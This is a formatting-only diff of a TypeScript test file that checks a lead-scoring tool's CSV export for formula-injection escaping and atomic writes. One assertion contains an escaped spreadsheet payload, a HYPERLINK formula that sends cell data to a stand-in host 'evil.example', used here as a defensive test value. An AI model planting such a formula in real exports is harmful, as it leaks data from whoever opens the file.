@@ -25,7 +25,8 @@ beforeAll(async () => {
   model = await fitModel(store.conn, { penalty_grid: [1], calibration: "platt" });
   await saveModel(store.conn, model);
   // Lead ids come from the source: a hostile export can hold formulas there.
-  for (const [i, id] of EVIL.entries()) await exec(store.conn, "UPDATE leads SET lead_id = $1 WHERE lead_id = $2", [id, `LDX-00000${i}`]);
+  for (const [i, id] of EVIL.entries())
+    await exec(store.conn, "UPDATE leads SET lead_id = $1 WHERE lead_id = $2", [id, `LDX-00000${i}`]);
   await store.close();
 }, 60_000);
 
@@ -41,11 +42,16 @@ describe("score --out CSV", () => {
     const table = fromCSV(readFileSync(out, "utf8"), { header: false, autoType: false });
     const rows = (table.objects() as Array<Record<string, string>>).map((o) => Object.values(o).map(String));
     expect(rows.length).toBe(1501);
-    for (const row of rows) for (const cell of row) if (!/^[+-]?[0-9.]+(e[+-]?\d+)?$/i.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows)
+      for (const cell of row)
+        if (!/^[+-]?[0-9.]+(e[+-]?\d+)?$/i.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
     const ids = rows.map((r) => r[0]);
     for (const id of EVIL) expect(ids).toContain(`'${id}`);
     const fitPoints = rows.slice(1).map((r) => r[4]);
-    expect(fitPoints.some((p) => p.startsWith("-")), "some lead has negative fit points").toBe(true);
+    expect(
+      fitPoints.some((p) => p.startsWith("-")),
+      "some lead has negative fit points",
+    ).toBe(true);
     for (const p of fitPoints) expect(Number.isInteger(Number(p)), p).toBe(true);
     // Text columns are double-quoted in the file (OWASP), numbers are not.
     expect(readFileSync(out, "utf8")).toContain(`"'=HYPERLINK(""http://evil.example?d=""&A1, ""x"")"`);
@@ -65,7 +71,9 @@ describe("score --out is atomic", () => {
     const t0 = Date.now();
     for (;;) {
       const now = readdirSync(folder);
-      const wrote = now.some((f) => !before.has(f) || (existsSync(join(folder, f)) && statSync(join(folder, f)).mtimeMs !== before.get(f)));
+      const wrote = now.some(
+        (f) => !before.has(f) || (existsSync(join(folder, f)) && statSync(join(folder, f)).mtimeMs !== before.get(f)),
+      );
       if (wrote || child.exitCode !== null || Date.now() - t0 > 60_000) break;
       await new Promise((r) => setTimeout(r, 2));
     }
@@ -77,7 +85,10 @@ describe("score --out is atomic", () => {
   beforeAll(async () => {
     // 150,000 leads: a CSV of tens of MB, long enough to be killed part-way through.
     const store = await openStore(db);
-    await exec(store.conn, "INSERT INTO leads SELECT leads.* REPLACE (lead_id || '-' || k AS lead_id) FROM leads, range(99) r(k)");
+    await exec(
+      store.conn,
+      "INSERT INTO leads SELECT leads.* REPLACE (lead_id || '-' || k AS lead_id) FROM leads, range(99) r(k)",
+    );
     await store.close();
   }, 60_000);
 
@@ -87,7 +98,10 @@ describe("score --out is atomic", () => {
     await killMidWrite(out);
     expect(existsSync(out), "no half-written file after a first run is killed").toBe(false);
 
-    const done = spawnSync("node", [...leadsCli, db, "--out", out, "--no-reasons"], { cwd: PROJECT_DIR, encoding: "utf8" });
+    const done = spawnSync("node", [...leadsCli, db, "--out", out, "--no-reasons"], {
+      cwd: PROJECT_DIR,
+      encoding: "utf8",
+    });
     expect(done.status, done.stderr).toBe(0);
     const complete = sha(out);
     expect(readFileSync(out, "utf8").trimEnd().split("\n").length).toBe(150_001);
